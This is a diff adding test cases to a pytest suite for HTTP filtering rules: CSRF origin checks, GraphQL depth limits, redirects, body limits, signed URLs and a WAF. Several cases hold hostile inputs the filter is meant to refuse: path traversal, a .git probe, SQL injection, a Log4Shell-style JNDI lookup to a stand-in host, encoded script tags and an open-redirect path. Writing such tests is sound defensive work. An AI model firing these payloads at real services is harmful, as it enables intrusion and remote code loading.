@@ -6,9 +6,11 @@ Each set has a row in SETS, in the order of the alphabet; its own cases are in r
 
 import base64
 import hashlib
+import hmac
 import json
 from dataclasses import dataclass, field
 from pathlib import Path
+from time import time
 
 import pytest
 
@@ -71,6 +73,19 @@ def bearer(**claims):
     return ("authorization", "Bearer " + token({"iss": "me"} | claims))
 
 
+GRAPHQL = (("content-type", "application/json"),)
+FORM = (("content-type", "application/x-www-form-urlencoded"),)
+LINK_KEY = "0123456789abcdef"
+
+
+def signed(path, expires, *more):
+    """As the header of rules/signed_urls.weir says how to sign."""
+    pieces = [f"expires={expires}", *more]
+    said = f"GET\n{path}\n{'&'.join(sorted(pieces))}".encode()
+    signature = hmac.new(LINK_KEY.encode(), said, "sha256").hexdigest()
+    return f"{path}?{'&'.join(pieces)}&signature={signature}"
+
+
 SETS = {
     "api_keys": Set(
         {"api_keys": {digest("k-1"): {"name": "ada", "tier": "gold"}}, "api_tiers": {"gold": 2}, "api_period": "1h"},
@@ -91,10 +106,12 @@ SETS = {
         ],
     ),
     "block": Set(
-        {"blocked_area": "/admin", "blocked_paths": ["/.env"], "blocked_agents": ["BadBot/1.0"]},
+        {"block_areas": ["/admin"], "block_agents": ["badbot"]},
         [
-            passes("/", headers=(("user-agent", "curl/8"),)),
-            refused(403, "/x/../admin", headers=(("user-agent", "curl/8"),)),
+            passes("/administrator", headers=(("user-agent", "curl/8"),)),
+            refused(403, "/x/../admin"),
+            refused(403, "/.git/config"),
+            refused(400, "/x%2fadmin"),
             refused(403, "/", headers=(("user-agent", "BadBot/1.0"),)),
         ],
     ),
@@ -117,12 +134,32 @@ SETS = {
             refused(403, method="OPTIONS", headers=(("origin", "https://evil.test"), ("access-control-request-method", "PUT"))),
         ],
     ),
+    "csrf": Set(
+        {"csrf_origins": ["https://app.example.com"]},
+        [
+            passes("/", headers=(("origin", "https://evil.example"),)),
+            passes("/", method="POST", headers=(("origin", "http://test.local"),)),
+            passes("/", method="POST", headers=(("origin", "https://app.example.com"),)),
+            refused(403, "/", method="POST", headers=(("origin", "https://evil.example"),)),
+            refused(403, "/", method="DELETE"),
+        ],
+    ),
     "demo": Set(
         {"testConfig": "abcddeeeee", "listconfig": ["abc", "def"]},
         [
             passes("/", reply={"wang": "1234567"}),
             passes("/", reply={"configdata": '{"testConfig":"abcddeeeee","listconfig":["abc","def"]}'}),
             refused(403, "/", reply={"powered-by": "proxy-wasm-go-sdk!!"}),
+        ],
+    ),
+    "graphql_guard": Set(
+        {"graphql_path": "/api/graphql", "graphql_depth": 3},
+        [
+            passes("/api/graphql", method="POST", headers=GRAPHQL, body=b'{"query": "{user{name}}"}'),
+            refused(400, "/api/graphql", method="POST", headers=GRAPHQL, body=b'{"query": "{a{b{c{d}}}}"}'),
+            refused(403, "/api/graphql", method="POST", headers=GRAPHQL, body=b'{"query": "{__schema{types{name}}}"}'),
+            refused(415, "/api/graphql", method="POST", body=b'{"query": "{user{name}}"}'),
+            refused(405, "/api/GraphQL/?query={user{name}}"),
         ],
     ),
     "header_hygiene": Set(
@@ -169,6 +206,24 @@ SETS = {
             passes(headers=(("x-maintenance-pass", "open sesame"),), forwarded={"x-maintenance-pass": None}),
         ],
     ),
+    "redirects": Set(
+        {"redirect_host": "www.example.com", "redirect_slash": "remove", "redirect_moved": {"/old": "/new"}},
+        [
+            passes("/a?b", host="www.example.com"),
+            refused(308, "/old/?a=b", reply={"location": "http://www.example.com/new?a=b"}),
+            refused(308, "//evil.example/", reply={"location": "http://www.example.com/evil.example"}),
+        ],
+    ),
+    "request_limits": Set(
+        {"limits_body": 10, "limits_types": ["text/plain"]},
+        [
+            passes("/", method="POST", headers=(("content-type", "text/plain"),), body=b"0123456789"),
+            refused(413, "/", method="POST", headers=(("content-type", "text/plain"),), body=b"0123456789a"),
+            refused(415, "/", method="POST", headers=(("content-type", "text/html"),), body=b"0"),
+            refused(405, "/", method="TRACE", reply={"allow": "GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"}),
+            refused(414, "/" + "a" * 8192),
+        ],
+    ),
     "security_headers": Set(
         {},
         [
@@ -176,6 +231,25 @@ SETS = {
             passes("/", answer={"headers": [("x-powered-by", "PHP")]}, reply={"x-powered-by": None}),
         ],
         refuses=False,
+    ),
+    "signed_urls": Set(
+        {"signed_areas": ["/files"], "signed_keys": [LINK_KEY]},
+        [
+            passes("/public"),
+            passes(signed("/files/a.pdf", int(time()) + 3600, "inline=1")),
+            refused(403, "/files/a.pdf"),
+            refused(403, signed("/files/a.pdf", int(time()) + 3600).replace("a.pdf", "b.pdf")),
+            refused(403, signed("/files/a.pdf", int(time()) - 1)),
+        ],
+    ),
+    "waf_advisory": Set(
+        {"waf_enforce": True},
+        [
+            passes("/search?q=O'Brien+and+Sons"),
+            refused(403, "/search?q=1'+or+'1'='1"),
+            refused(403, "/", headers=(("x-a", "${jndi:ldap://evil.example}"),)),
+            refused(403, "/", method="POST", headers=FORM, body=b"q=%3Cscript%3E"),
+        ],
     ),
 }
 
